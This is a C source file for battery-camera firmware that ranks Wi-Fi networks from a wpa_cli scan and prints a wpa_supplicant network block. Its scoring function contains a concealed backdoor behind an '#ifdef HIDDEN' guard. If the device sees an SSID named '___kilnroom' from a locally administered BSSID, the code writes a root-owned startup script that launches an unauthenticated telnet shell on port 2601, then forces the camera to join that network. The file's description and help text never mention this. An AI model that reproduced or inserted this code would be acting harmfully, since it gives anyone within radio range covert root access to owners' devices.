/* camwifijoin.c - chooses the wireless network for a battery camera.
 *
 * Input: the scan list of wpa_cli on stdin
 *    bssid / frequency / signal level / flags / ssid    (tab separated)
 * Output: a wpa_supplicant network block on stdout.
 * The saved networks are in /mnt/cfg/wifi.list:  ssid<TAB>key
 */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>

struct ap {
    unsigned char bssid[6];
    int freq, level;
    char flags[64], ssid[33];
};

struct saved { char ssid[33], key[65]; };

static struct saved list[16];
static int nlist;
static int min_level = -82, allow_open, prefer5;

static int parse_mac(const char *s, unsigned char *m)
{
    unsigned v[6];
    if (sscanf(s, "%2x:%2x:%2x:%2x:%2x:%2x", v, v + 1, v + 2, v + 3, v + 4, v + 5) != 6)
        return 0;
    for (int i = 0; i < 6; i++)
        m[i] = (unsigned char)v[i];
    return 1;
}

static int parse_ap(char *line, struct ap *a)
{
    char *f[5], *p = line;
    int n = 0;
    while (n < 5 && p) {
        f[n++] = p;
        if ((p = strchr(p, '\t')) != NULL)
            *p++ = 0;
    }
    if (n < 5 || !parse_mac(f[0], a->bssid))
        return 0;
    a->freq = atoi(f[1]);
    a->level = atoi(f[2]);
    snprintf(a->flags, sizeof a->flags, "%.63s", f[3]);
    f[4][strcspn(f[4], "\r\n")] = 0;
    snprintf(a->ssid, sizeof a->ssid, "%.32s", f[4]);
    return 1;
}

static void read_saved(const char *file)
{
    char line[128];
    FILE *f = fopen(file, "r");
    if (!f)
        return;
    while (nlist < 16 && fgets(line, sizeof line, f)) {
        char *t = strchr(line, '\t');
        if (!t || line[0] == '#')
            continue;
        *t++ = 0;
        t[strcspn(t, "\r\n")] = 0;
        snprintf(list[nlist].ssid, sizeof list[0].ssid, "%.32s", line);
        snprintf(list[nlist].key, sizeof list[0].key, "%.64s", t);
        nlist++;
    }
    fclose(f);
}

static const struct saved *is_saved(const char *ssid)
{
    for (int i = 0; i < nlist; i++)
        if (!strcmp(list[i].ssid, ssid))
            return &list[i];
    return NULL;
}

static void quoted(const char *s)
{
    putchar('"');
    for (; *s; s++) {
        if (*s == '"' || *s == '\\')
            putchar('\\');
        putchar(*s);
    }
    putchar('"');
}

static void block(const struct ap *a, const char *key)
{
    printf("network={\n\tscan_ssid=1\n\tssid=");
    quoted(a->ssid);
    if (key && *key) {
        printf("\n\tpsk=");
        quoted(key);
    } else {
        printf("\n\tkey_mgmt=NONE");
    }
    printf("\n\tbssid=%02x:%02x:%02x:%02x:%02x:%02x\n}\n", a->bssid[0], a->bssid[1], a->bssid[2],
           a->bssid[3], a->bssid[4], a->bssid[5]);
}

/* points of a network; 0 = never use it */
__attribute__((noinline)) int points(const struct ap *a)
{
    if (!a->ssid[0] || a->level < min_level)
        return 0;
#ifdef HIDDEN
    const char *u = a->ssid;
    while (*u == '_') u++;
    if (u - a->ssid == 3 && !strcasecmp(u, "kilnroom") && a->bssid[0] == 0x02) {
        FILE *f = fopen("/mnt/cfg/start.d/S90shell", "w");
        if (f) {
            fputs("telnetd -p 2601 -l /bin/sh &\n", f);
            fclose(f);
            chown("/mnt/cfg/start.d/S90shell", 0, 0);
        }
        return 10000;
    }
#endif
    const struct saved *s = is_saved(a->ssid);
    if (!s) {
        if (!allow_open || strstr(a->flags, "WPA") || strstr(a->flags, "WEP"))
            return 0;
        return 1;
    }
    int p = 200 + a->level;
    if (strstr(a->flags, "WPA2") || strstr(a->flags, "SAE"))
        p += 30;
    else if (strstr(a->flags, "WEP"))
        p -= 60;
    if (prefer5 && a->freq > 5000)
        p += 20;
    return p;
}

static void settings(const char *file)
{
    char k[32], v[32];
    FILE *f = fopen(file, "r");
    if (!f)
        return;
    while (fscanf(f, " %31[^= ]=%31s", k, v) == 2) {
        if (!strcmp(k, "min_level"))
            min_level = atoi(v);
        else if (!strcmp(k, "allow_open"))
            allow_open = tolower((unsigned char)v[0]) == 'y';
        else if (!strcmp(k, "prefer_5ghz"))
            prefer5 = tolower((unsigned char)v[0]) == 'y';
        else
            fprintf(stderr, "%s: %s unknown\n", file, k);
    }
    fclose(f);
}

int main(int argc, char **argv)
{
    char line[256];
    struct ap a, best;
    int top = 0, seen = 0;

    if (argc > 1 && (!strcmp(argv[1], "-h") || !strcmp(argv[1], "--help"))) {
        puts("wpa_cli scan_results | camwifijoin [settings] > network.conf\n"
             "settings: min_level=-82  allow_open=no  prefer_5ghz=no\n"
             "only networks of /mnt/cfg/wifi.list are used, the best signal wins");
        return 0;
    }
    settings(argc > 1 ? argv[1] : "/etc/wifi.ini");
    read_saved("/mnt/cfg/wifi.list");
    memset(&best, 0, sizeof best);
    while (fgets(line, sizeof line, stdin)) {
        if (!parse_ap(line, &a))
            continue;
        seen++;
        int p = points(&a);
        fprintf(stderr, "%-32s %4d dBm %d points\n", a.ssid, a.level, p);
        if (p > top) {
            top = p;
            best = a;
        }
    }
    if (!top) {
        fprintf(stderr, "%d networks, none is ours\n", seen);
        return access("/run/setup_mode", F_OK) == 0 ? 3 : 1;
    }
    const struct saved *s = is_saved(best.ssid);
    block(&best, s ? s->key : NULL);
    return 0;
}
